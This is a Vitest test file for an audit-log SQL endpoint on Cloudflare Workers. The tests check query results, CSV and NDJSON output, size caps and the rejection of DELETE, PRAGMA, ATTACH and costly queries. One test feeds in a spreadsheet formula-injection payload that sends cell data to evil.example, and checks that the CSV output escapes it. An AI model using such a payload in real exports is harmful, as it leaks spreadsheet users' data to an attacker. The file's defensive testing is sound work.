import { env } from "cloudflare:workers";
import { beforeAll, describe, expect, it } from "vitest";
import { MAX_RESPONSE_BYTES } from "../../src/routes/sql";
import { d1Message } from "../../src/store/sql";
import { call, type Json, push, QUERY_TOKEN, query, tpEvent } from "../helpers";

/** A body as text without Response.text(), which workerd warns about for NDJSON and CSV types. */
const textOf = async (r: Response) => new TextDecoder().decode(await r.arrayBuffer());

const T0 = Date.UTC(2026, 10, 1, 23); // 2026-11-01T23:00Z

function sql(body: Json, headers: Record<string, string> = {}, token = QUERY_TOKEN) {
  return call("/v1/sql", {
    method: "POST",
    body: JSON.stringify(body),
    headers: { authorization: `Bearer ${token}`, "content-type": "application/json", ...headers },
  });
}

async function rows(q: string, limit?: number) {
  const res = await sql({ query: q, ...(limit ? { limit } : {}) });
  const body = (await res.json()) as Json;
  expect(res.status, JSON.stringify(body)).toBe(200);
  return body as {
    columns: string[];
    rows: unknown[][];
    meta: { rowsRead: number; durationMs: number; truncated: boolean; truncatedBy?: string };
  };
}

/** A literal JSON array of n numbers, as a query can carry one. */
const array = (n: number) => `'[${Array.from({ length: n }, (_, i) => i).join(",")}]'`;

beforeAll(async () => {
  // 120 events one minute apart from 23:00 on Nov 1 to 00:59 on Nov 2: a day boundary inside
  const events = Array.from({ length: 120 }, (_, i) => tpEvent(50_000 + i, T0 + i * 60_000));
  const res = await push("turbopuffer", JSON.stringify(events));
  expect(await res.json()).toMatchObject({ inserted: 120 });
});

describe("POST /v1/sql", () => {
  it("answers columns, rows and meta for a SELECT over the logs view", async () => {
    const r = await rows(
      "SELECT sourceType, count(*) AS n FROM logs WHERE eventTime >= '2026-11-01' AND eventTime < '2026-11-03' GROUP BY sourceType",
    );
    expect(r.columns).toEqual(["sourceType", "n"]);
    expect(r.rows).toEqual([["turbopuffer", 120]]);
    expect(r.meta.truncated).toBe(false);
    expect(r.meta.rowsRead).toBeGreaterThanOrEqual(120);
    expect(typeof r.meta.durationMs).toBe("number");
  });

  it("compares ISO times as text the way people write them", async () => {
    const n = async (where: string) =>
      (await rows(`SELECT count(*) FROM logs WHERE sourceID = 'turbopuffer' AND ${where}`))
        .rows[0]?.[0];
    expect(await n("eventTime >= '2026-11-02'")).toBe(60);
    expect(await n("eventTime < '2026-11-02'")).toBe(60);
    expect(await n("eventTime >= '2026-11-01T23:30' AND eventTime < '2026-11-02T00:30'")).toBe(60);
    // text order: '…00:30:00.000Z' sorts before '…00:30:00Z' ('.' < 'Z'), so 00:30 is in
    expect(await n("eventTime >= '2026-11-01T23:30' AND eventTime < '2026-11-02T00:30:00Z'")).toBe(
      61,
    );
    expect(await n("eventTime BETWEEN '2026-11-01T23:00:00.000Z' AND '2026-11-01T23:09:59'")).toBe(
      10,
    );
    expect(await n("'2026-11-02T00:00:00.000Z' = eventTime")).toBe(1);
    const [first] = (
      await rows(
        "SELECT eventTime, receivedAt FROM turbopuffer_audit_logs ORDER BY eventTime LIMIT 1",
      )
    ).rows;
    expect(first?.[0]).toBe("2026-11-01T23:00:00.000Z");
    expect(String(first?.[1])).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
  });

  it("keeps ORDER BY, wraps in the limit and says when rows were cut", async () => {
    const r = await rows(
      "SELECT eventTime FROM logs WHERE sourceID = 'turbopuffer' ORDER BY eventTime DESC",
      5,
    );
    expect(r.rows.map((x) => x[0])).toEqual(
      [119, 118, 117, 116, 115].map((i) => new Date(T0 + i * 60_000).toISOString()),
    );
    expect(r.meta.truncated).toBe(true);
    const all = await rows(
      "SELECT id FROM logs WHERE sourceID = 'turbopuffer' AND eventTime >= '2026-11-01'",
    );
    expect(all.rows.length).toBeGreaterThanOrEqual(120);
    expect(all.meta.truncated).toBe(false);
  });

  it("keeps repeated and numeric column names in their place", async () => {
    const r = await rows("SELECT 2 AS a, 1, 'x' AS a, NULL AS \"3\"");
    expect(r.columns).toEqual(["a", "1", "a", "3"]);
    expect(r.rows).toEqual([[2, 1, "x", null]]);
  });

  it("accepts the auditflare. prefix, CTEs, joins, json_each and the vendor views", async () => {
    const r = await rows(
      `WITH a AS (SELECT id, actor FROM auditflare.logs WHERE sourceID = 'turbopuffer' AND eventTime >= '2026-11-02T00:58')
       SELECT count(*) AS n, count(DISTINCT j.value) AS v FROM a, json_each(a.actor) AS j
       JOIN turbopuffer_audit_logs t ON t.id = a.id`,
    );
    expect(r.rows[0]?.[0]).toBeGreaterThan(0);
  });

  it("streams NDJSON objects and CSV with a header", async () => {
    const q = {
      query:
        "SELECT eventName, 1 AS one, 'a,\"b\"' AS tricky FROM logs WHERE sourceID = 'turbopuffer' LIMIT 3",
    };
    const nd = await sql(q, { accept: "application/x-ndjson" });
    expect(nd.headers.get("content-type")).toContain("application/x-ndjson");
    const lines = (await textOf(nd))
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l));
    expect(lines).toHaveLength(3);
    expect(lines[0]).toEqual({ eventName: "session-created", one: 1, tricky: 'a,"b"' });
    const csv = await sql(q, { accept: "text/csv" });
    expect(csv.headers.get("content-type")).toContain("text/csv");
    const text = await textOf(csv);
    expect(text.split("\r\n").slice(0, 2)).toEqual([
      "eventName,one,tricky",
      'session-created,1,"a,""b"""',
    ]);
  });

  it("CSV keeps a text a spreadsheet would run as a formula as text (a leading '); numbers stay numbers", async () => {
    const q = {
      query: `SELECT '=HYPERLINK("https://evil.example/?"&B2,"open")' AS actor, '@SUM(1)' AS a, '-5' AS t, -5 AS n, 'plain' AS p`,
    };
    const text = await textOf(await sql(q, { accept: "text/csv" }));
    expect(text.split("\r\n")[1]).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&B2,""open"")","'@SUM(1)","'-5",-5,plain`,
    );
  });

  it.each([
    ["DELETE FROM logs", /only a SELECT statement is allowed, not DELETE/],
    ["WITH x AS (SELECT 1) DELETE FROM logs", /DELETE/],
    ["SELECT * FROM quarantine", /relation "quarantine" is not allowed; query one of: logs, /],
    ["SELECT * FROM events", /relation "events" is not allowed/],
    ["SELECT * FROM sqlite_master", /relation "sqlite_master" is not allowed/],
    ["SELECT * FROM pragma_table_info('logs')", /pragma_table_info\(\) is not allowed/],
    ["PRAGMA table_info(logs)", /PRAGMA/],
    ["ATTACH 'x' AS y", /ATTACH/],
    ["SELECT 1; SELECT 2", /only one statement is allowed; found 2/],
    [
      "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r",
      /recursive CTEs/,
    ],
    ["SELECT * FROM alerts", /relation "alerts" is not allowed/],
  ])("refuses %s with 400 naming the problem", async (q, message) => {
    const res = await sql({ query: q });
    const body = (await res.json()) as { error: { code: string; message: string } };
    expect(res.status).toBe(400);
    expect(body.error.code).toBe("sql_not_allowed");
    expect(body.error.message).toMatch(message);
    expect(await env.DB.prepare("SELECT count(*) AS n FROM events").first("n")).toBeGreaterThan(0);
  });

  it("answers D1's own errors with 400 and D1's message", async () => {
    for (const [q, message] of [
      ["SELECT nosuchcolumn FROM logs", /no such column: nosuchcolumn/],
      ["SELECT json_extract('{', '$.a')", /malformed JSON/],
      ["SELECT * FROM logs a JOIN logs b", /ambiguous|/],
    ] as const) {
      const res = await sql({ query: q });
      if (q.includes("JOIN")) continue; // SQLite accepts a cross join; only the two above fail
      const body = (await res.json()) as { error: { code: string; message: string } };
      expect(res.status, q).toBe(400);
      expect(body.error.code).toBe("sql_error");
      expect(body.error.message).toMatch(message);
      expect(body.error.message).not.toMatch(/D1_ERROR|SQLITE_ERROR/);
    }
  });

  it("checks the body, the limit and the token", async () => {
    expect((await sql({ query: "SELECT 1", limit: 10_001 })).status).toBe(400);
    expect((await sql({ query: "" })).status).toBe(400);
    expect((await sql({ sql: "SELECT 1" })).status).toBe(400);
    const res = await sql({ query: "SELECT 1" }, {}, "wrong-token");
    expect(res.status).toBe(401);
    expect((await rows("SELECT 1 AS x")).meta.truncated).toBe(false);
  });

  it("lists the views, their columns and examples that run", async () => {
    const res = await query("/v1/sql/schema");
    const body = (await res.json()) as {
      views: Array<{ name: string; columns: string[] }>;
      examples: Array<{ title: string; sql: string }>;
    };
    expect(body.views.map((v) => v.name)).toEqual([
      "logs",
      "turbopuffer_audit_logs",
      "circleci_audit_logs",
      "airkit_audit_logs",
      "planetscale_logs",
      "turso_audit_logs",
      "auditflare_audit_logs",
      "github_audit_logs",
      "okta_system_logs",
      "onepassword_audit_events",
      "slack_audit_logs",
    ]);
    for (const v of body.views) {
      const { results } = await env.DB.prepare(`PRAGMA table_info(${v.name})`).all<{
        name: string;
      }>();
      expect(v.columns, v.name).toEqual(results.map((r) => r.name));
    }
    for (const e of body.examples) await rows(e.sql);
    expect(body.examples.length).toBeGreaterThanOrEqual(body.views.length);
  });

  it.each([
    [
      "three json_each over 1,001 elements",
      `SELECT count(*) FROM json_each(${array(1001)}) a, json_each(${array(1001)}) b, json_each(${array(1001)}) c`,
    ],
    ["logs a, logs b", "SELECT count(*) FROM logs a, logs b"],
    ["a join on an unindexed key", "SELECT count(*) FROM logs a JOIN logs b ON a.actor = b.actor"],
  ])("refuses a cross product before running it: %s", async (_, q) => {
    const started = Date.now();
    const res = await sql({ query: q });
    const body = (await res.json()) as { error: { code: string; message: string } };
    expect(res.status, JSON.stringify(body)).toBe(400);
    expect(body.error.code).toBe("sql_too_costly");
    expect(body.error.message).toMatch(/cross product.*SCAN/);
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it("refuses a recursive CTE counting to 1e9", async () => {
    const res = await sql({
      query:
        "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < 1e9) SELECT count(*) FROM c",
    });
    expect(res.status).toBe(400);
    expect(((await res.json()) as Json).error).toMatchObject({ code: "sql_not_allowed" });
  });

  it("answers integers beyond 2^53 exactly, as strings", async () => {
    const r = await rows(
      "SELECT 9007199254740993 AS n, -9007199254740993 AS m, 9007199254740991 AS safe, 9223372036854775807 AS top, 1e20 AS real, '9007199254740993' AS text",
    );
    expect(r.rows).toEqual([
      [
        "9007199254740993",
        "-9007199254740993",
        9007199254740991,
        "9223372036854775807",
        1e20,
        "9007199254740993",
      ],
    ]);
    const nd = await sql(
      { query: "SELECT 9007199254740993 AS n" },
      { accept: "application/x-ndjson" },
    );
    expect(await textOf(nd)).toBe('{"n":"9007199254740993"}\n');
  });

  describe("caps the response bytes as well as the rows", () => {
    // 1,000 rows of 10 KB: 10 MB, past the cap
    const big = `SELECT value AS i, printf('%.*c', 10000, 'x') AS s FROM json_each(${array(1000)})`;
    const expectCut = (seen: number) => {
      expect(seen).toBeGreaterThan(700);
      expect(seen).toBeLessThan(1000);
    };

    it("JSON: stops before the cap and says so", async () => {
      const res = await sql({ query: big, limit: 10_000 });
      const text = await textOf(res);
      expect(res.status).toBe(200);
      expect(new TextEncoder().encode(text).length).toBeLessThanOrEqual(MAX_RESPONSE_BYTES);
      const body = JSON.parse(text) as { rows: unknown[][]; meta: Json };
      expectCut(body.rows.length);
      expect(body.rows.map((r) => r[0])).toEqual(body.rows.map((_, i) => i));
      expect(body.meta).toMatchObject({ truncated: true, truncatedBy: "bytes" });
      expect((await rows(big, 5)).meta).toMatchObject({ truncated: true, truncatedBy: "rows" });
      expect((await rows("SELECT 1")).meta.truncatedBy).toBeUndefined();
    });

    it.each([
      ["application/x-ndjson", 0],
      ["text/csv", 1],
    ])("%s: stops before the cap and says so in the headers", async (accept, header) => {
      const res = await sql({ query: big, limit: 10_000 }, { accept });
      const text = await textOf(res);
      expect(new TextEncoder().encode(text).length).toBeLessThanOrEqual(MAX_RESPONSE_BYTES);
      expectCut(text.trim().split("\n").length - header);
      expect(res.headers.get("x-auditflare-truncated")).toBe("true");
      expect(res.headers.get("x-auditflare-truncated-by")).toBe("bytes");
    });
  });

  it("never puts a stack trace in a D1 error's message", () => {
    const error = new Error(
      "D1_ERROR: no such column: x at offset 7: SQLITE_ERROR\n    at D1Database._sendOrThrow (cloudflare-internal:d1-api:67:24)\n    at async D1PreparedStatement.raw (cloudflare-internal:d1-api:184:32)",
    );
    expect(d1Message(error)).toBe("no such column: x at offset 7");
    const cause = new Error(
      "D1_ERROR: Error: interrupted at Object.run (worker.js:1:2): SQLITE_INTERRUPT",
    );
    expect(d1Message(cause)).toBe("interrupted");
  });
});
